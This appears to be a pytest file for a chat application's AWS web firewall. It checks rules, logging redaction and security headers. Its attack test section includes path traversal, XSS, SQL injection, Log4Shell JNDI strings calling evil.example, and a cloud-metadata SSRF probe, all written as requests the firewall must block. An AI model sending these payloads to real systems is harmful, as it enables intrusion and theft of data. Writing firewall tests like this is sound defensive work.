"""The firewall's rules over what people write, and over a few attacks; its logs; how it is put up and taken down."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from chalicelib.api.schemas import comments, conversations, files, frames, insights, people, texts
from pydantic import BaseModel

from deploy import steps
from deploy.environment import DeploymentError, Stage, read_settings
from deploy.functions import app_modules
from tests import waf
from tests.api.routes import OWNERS_ROUTES, ROUTES
from tests.prompts import FILE_NAMES, prompts
from tests.resolved import Template
from tests.waf import Request

PROD = Stage("prod", "eu-west-1")
BROWSER = {
    "Host": "rest1.execute-api.eu-west-1.amazonaws.com",
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Authorization": "Bearer eyJraWQiOiJhIn0.eyJzdWIiOiJiIn0.c2lnbmF0dXJl-_",
    "Content-Type": "application/json",
    "Origin": "https://d1.cloudfront.net",
    "Accept-Language": "fr,en;q=0.8",
}
ID = "01a1fe08-e5c5-7000-80c7-b4ac7a401b54"
# Of routes that carry text, with the field that does.
TEXTS = [
    ("POST", f"/api/conversations/{ID}/messages", "text"),
    ("POST", "/api/conversations", "system"),
    ("PATCH", f"/api/conversations/{ID}", "title"),
    ("POST", "/api/chat", "message"),
    ("POST", "/conversations", "system"),  # on a name of one's own
    ("POST", "/api/twins/me/messages", "text"),
    ("POST", "/api/commentaires", "text"),
    ("POST", "/api/integrations/commentaires", "text"),
    ("POST", "/api/drafts/me/entries", "text"),
    ("POST", f"/api/insights/me/questions/{ID}", "text"),
]
# Routes whose bodies hold nothing that people write: the whole firewall stands there.
_WITHOUT_TEXT = {"sockets", "sessions", "signups", "models", "health"}


def template(name: str, **parameters: str) -> Template:
    given = {"Stage": "prod", "Home": "eu-west-1", **parameters}
    attributes = {"Firewall.Arn": "arn:aws:wafv2:a"}
    return Template(steps.templates(PROD)[name], given, attributes=attributes)


def rules_of(name: str, **parameters: str) -> list[dict[str, Any]]:
    return list(template(name, **parameters).resources["Firewall"]["Properties"]["Rules"])


RULES = rules_of("edge-api.yaml")


def written(method: str, path: str, body: dict[str, str]) -> Request:
    """As the site sends it, which leaves no script of the world out: `JSON.stringify`."""
    return Request(method, path, body=json.dumps(body, ensure_ascii=False).encode(), headers=BROWSER)


# --- What people write ------------------------------------------------------------------------------------------------


def test_there_are_two_hundred_prompts_and_the_rules_find_most_of_them_suspicious() -> None:
    """Or else the patterns would prove nothing."""
    assert len(set(prompts())) >= 200
    found = [
        {rule.name for rule in waf.RULES if rule.finds(written("POST", "/api/chat", {"message": prompt}))}
        for prompt in prompts()
    ]
    assert sum(bool(each) for each in found) >= 200
    kinds = {name.rpartition("_")[0] for each in found for name in each}
    of_bodies = {rule.name.rpartition("_")[0] for rule in waf.RULES if rule.name.endswith("_BODY")}
    assert of_bodies <= kinds


@pytest.mark.parametrize(("method", "path", "field"), TEXTS)
def test_no_prompt_is_blocked(method: str, path: str, field: str) -> None:
    blocked = {
        waf.blocked_by(RULES, written(method, path, {field: prompt, "request_id": "a" * 32})) for prompt in prompts()
    }
    assert blocked == {None}


@pytest.mark.parametrize("name", FILE_NAMES)
def test_no_name_of_a_file_is_blocked(name: str) -> None:
    made = written("POST", "/api/files", {"name": name, "type": "text/plain"})
    found = Request("GET", "/api/files", query=f"name={quote(name)}&limit=30", headers=BROWSER)
    assert [waf.blocked_by(RULES, each) for each in (made, found)] == [None, None]


def _overrides() -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
    for rule in RULES:
        for override in rule["Statement"].get("ManagedRuleGroupStatement", {}).get("RuleActionOverrides", []):
            yield rule, override


@pytest.mark.parametrize("name", [override["Name"] for _, override in _overrides()])
def test_each_exception_is_needed(name: str) -> None:
    """Without it, something that people write is blocked."""
    without = json.loads(json.dumps(RULES))
    for rule in without:
        if group := rule["Statement"].get("ManagedRuleGroupStatement"):
            group["RuleActionOverrides"] = [
                each for each in group.get("RuleActionOverrides", []) if each["Name"] != name
            ]
    sent = [written("POST", "/api/chat", {"message": prompt}) for prompt in prompts()]
    named = ["rO0AB.txt", "169.254.169.254.txt", *FILE_NAMES]
    sent += [Request("GET", "/api/files", query=f"name={quote(each)}", headers=BROWSER) for each in named]
    assert any(name in (waf.blocked_by(without, each) or "") for each in sent)


def test_what_is_counted_is_blocked_where_no_text_is_expected() -> None:
    """By a label for each exception: one that is counted and forgotten would be no rule at all."""
    labels = {rule.name: rule.label for rule in waf.RULES}
    counted = {labels[override["Name"]] for _, override in _overrides()}
    own = json.dumps([rule["Statement"] for rule in RULES if rule["Name"].endswith("-without-text")])
    assert counted == set(re.findall(r'"Key": "([^"]+)"', own))


def test_every_route_that_takes_text_is_excepted_and_no_other() -> None:
    (pattern,) = [
        each["NotStatement"]["Statement"]["RegexMatchStatement"]["RegexString"]
        for rule in RULES
        if rule["Name"] == "bodies-without-text"
        for each in rule["Statement"]["AndStatement"]["Statements"]
        if "NotStatement" in each
    ]
    excepted = set(re.findall(r"[a-z]{2,}", pattern.split(")?(", 1)[1]))
    with_bodies = {path.split("/")[1] for _, path, body in [*ROUTES, *OWNERS_ROUTES] if body is not None}
    assert with_bodies - _WITHOUT_TEXT <= excepted
    assert not excepted & _WITHOUT_TEXT


@pytest.mark.parametrize("module", [comments, conversations, files, frames, insights, people, texts])
def test_no_other_query_holds_what_people_write(module: Any) -> None:
    """A new parameter of free text needs an exception, as those of files and people have."""
    queries = [each for each in vars(module).values() if isinstance(each, type) and issubclass(each, BaseModel)]
    found = {name for each in queries if each.__name__.endswith("Query") for name in each.model_fields}
    free = {"name", "email"}
    closed = {"limit", "cursor", "archived", "after", "sectionId", "sectionIds", "state", "user_id", "status"}
    assert found <= free | closed | {"from_", "to", "reading"}


# --- Attacks ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "request_",
    [
        Request("GET", "/api/../../etc/passwd", headers=BROWSER),
        Request("GET", "/api/conversations/%3Cscript%3Ealert(1)%3C/script%3E", headers=BROWSER),
        Request("GET", "/api/.git/config", headers=BROWSER),
        Request("GET", "/api/conversations", query="cursor=%27%20OR%201%3D1%20--%20", headers=BROWSER),
        Request("GET", "/api/conversations", query="limit=1&a=${jndi:ldap://evil.example/a}", headers=BROWSER),
        Request("GET", "/api/twins/me", query="x=../../etc/passwd", headers=BROWSER),
        Request("GET", "/api/health", query="u=http://169.254.169.254/latest/meta-data", headers=BROWSER),
        Request("GET", "/api/health", headers={**BROWSER, "X-Api-Version": "${jndi:ldap://evil.example/a}"}),
        Request("GET", "/api/health", headers={**BROWSER, "User-Agent": "sqlmap/1.8"}),
        Request("PROPFIND", "/api/files", headers=BROWSER),
        Request("POST", "/api/signups", body=b'{"email": "a@b.example\' OR 1=1 -- "}', headers=BROWSER),
        Request("POST", "/api/sockets", body=b"<script>alert(1)</script>", headers=BROWSER),
        Request("POST", "/api/sessions/end", body=b"a" * 9_000, headers=BROWSER),
        Request("POST", "/api/chatter", body=b"<script>alert(1)</script>", headers=BROWSER),
    ],
)
def test_attacks_elsewhere_are_blocked(request_: Request) -> None:
    assert waf.blocked_by(RULES, request_)


# --- The templates ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["edge-api.yaml", "edge.yaml"])
def test_logs_hold_what_was_blocked_and_no_token_and_samples_are_off(name: str) -> None:
    found = template(name)
    log = found.resources["Logging"]["Properties"]
    assert found.resources["Log"]["Properties"]["LogGroupName"].startswith("aws-waf-logs-chatapp-prod-")
    redacted = {each["SingleHeader"]["Name"] for each in log["RedactedFields"] if "SingleHeader" in each}
    assert redacted == {"authorization", "cookie", "x-api-key"}
    assert {"QueryString": {}} in log["RedactedFields"]
    # What a rule found in a body or a query is a line of its own in the log, which redaction does not reach.
    protected = found.resources["Firewall"]["Properties"]["DataProtectionConfig"]["DataProtections"]
    fields = {(each["Field"]["FieldType"], *each["Field"].get("FieldKeys", [])): each for each in protected}
    assert fields.keys() == {
        ("BODY",),
        ("QUERY_STRING",),
        ("SINGLE_HEADER", "authorization", "cookie", "x-api-key"),
    }
    assert {each["Action"] for each in protected} == {"SUBSTITUTION"}
    assert not any(each.get("ExcludeRuleMatchDetails") for each in protected)
    assert log["LoggingFilter"]["DefaultBehavior"] == "DROP"
    acl = found.resources["Firewall"]["Properties"]
    views = [acl["VisibilityConfig"], *(rule["VisibilityConfig"] for rule in acl["Rules"])]
    assert not any(view["SampledRequestsEnabled"] for view in views)


def test_the_rate_rules_answer_is_the_apps_error_for_any_page() -> None:
    acl = template("edge-api.yaml").resources["Firewall"]["Properties"]
    answer = acl["Rules"][0]["Action"]["Block"]["CustomResponse"]
    assert answer["ResponseCode"] == 429
    assert json.loads(acl["CustomResponseBodies"]["throttled"]["Content"])["error"]["code"] == "throttled"
    headers = {each["Name"]: each["Value"] for each in answer["ResponseHeaders"]}
    assert headers["Access-Control-Allow-Origin"] == "*"
    assert int(headers["Retry-After"]) == 60
    assert app_modules.security_headers().items() <= headers.items()


def test_the_site_answers_a_block_by_a_page_of_its_own_and_not_the_application() -> None:
    """Every rule that blocks has a response, which goes before the distribution's error pages."""
    acl = template("edge.yaml").resources["Firewall"]["Properties"]
    for rule in acl["Rules"]:
        if "Action" in rule:
            key = _answer(rule)["CustomResponseBodyKey"]
            page = acl["CustomResponseBodies"][key]
            headers = {each["Name"]: each["Value"] for each in _answer(rule)["ResponseHeaders"]}
            assert headers["Content-Security-Policy"].startswith("default-src 'none'")
            assert headers["X-Content-Type-Options"] == "nosniff"
            assert page["ContentType"] == "TEXT_HTML"
            assert 'lang="fr"' in page["Content"]
            assert len(page["Content"].encode()) <= 4_096
        else:
            assert rule["OverrideAction"] == {"Count": {}}


def _answer(rule: dict[str, Any]) -> dict[str, Any]:
    return dict(rule["Action"]["Block"]["CustomResponse"])


def test_every_file_of_the_site_comes_with_headers_that_close_it() -> None:
    given = {"Stage": "prod", "ConnectSources": "https://api.example,wss://socket.example"}
    resources = Template(steps.templates(PROD)["foundation.yaml"], given).resources
    distribution = resources["Distribution"]["Properties"]["DistributionConfig"]
    behaviors = [distribution["DefaultCacheBehavior"], *distribution["CacheBehaviors"]]
    assert {each["ResponseHeadersPolicyId"] for each in behaviors} == {"securityheaders-id", "embedheaders-id"}
    assert {each["ViewerProtocolPolicy"] for each in behaviors} == {"redirect-to-https"}
    policy = resources["SecurityHeaders"]["Properties"]["ResponseHeadersPolicyConfig"]
    security = policy["SecurityHeadersConfig"]
    assert security["StrictTransportSecurity"]["AccessControlMaxAgeSec"] >= 365 * 86_400
    assert security["ContentTypeOptions"]["Override"]
    assert security["FrameOptions"]["FrameOption"] == "DENY"
    assert security["ReferrerPolicy"]["ReferrerPolicy"] == "no-referrer"
    content = security["ContentSecurityPolicy"]["ContentSecurityPolicy"]
    directives = dict(each.split(" ", 1) for each in content.split("; "))
    assert directives == {
        "default-src": "'none'",
        "script-src": "'self'",
        "style-src": "'self'",
        "img-src": "'self' data: blob:",
        "font-src": "'self'",
        "connect-src": "'self' https://api.example wss://socket.example",
        "base-uri": "'none'",
        "form-action": "'none'",
        "frame-ancestors": "'none'",
        "require-trusted-types-for": "'script'",
    }
    others = {each["Header"] for each in policy["CustomHeadersConfig"]["Items"]}
    assert others == {"Permissions-Policy", "Cross-Origin-Opener-Policy"}


def test_bots_are_looked_for_where_the_setting_says_and_scripts_pass() -> None:
    assert [rule["Name"] for rule in RULES if rule["Name"] == "bots"] == []
    (bots,) = (rule for rule in rules_of("edge-api.yaml", BotControl="true") if rule["Name"] == "bots")
    overrides = bots["Statement"]["ManagedRuleGroupStatement"]["RuleActionOverrides"]
    assert {each["Name"] for each in overrides} == {
        "CategoryHttpLibrary",
        "SignalNonBrowserUserAgent",
        "SignalKnownBotDataCenter",
    }
    with pytest.raises(DeploymentError, match="firewall = true"):
        read_settings("[default]\nbot_control = true\n", "prod")
